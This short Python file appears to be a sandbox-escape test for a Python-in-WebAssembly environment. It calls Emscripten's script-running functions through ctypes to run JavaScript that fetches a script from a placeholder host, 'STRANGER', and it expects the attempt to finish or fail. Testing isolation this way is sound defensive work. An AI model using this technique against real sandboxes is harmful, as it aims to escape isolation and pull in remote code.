# tries: running JavaScript through Emscripten's C functions
# as: run
# must: finished | error
import ctypes

library = ctypes.CDLL(None)
for name in ("emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string"):
    try:
        getattr(library, name)(b"fetch('http://STRANGER/script')")
    except BaseException:
        pass
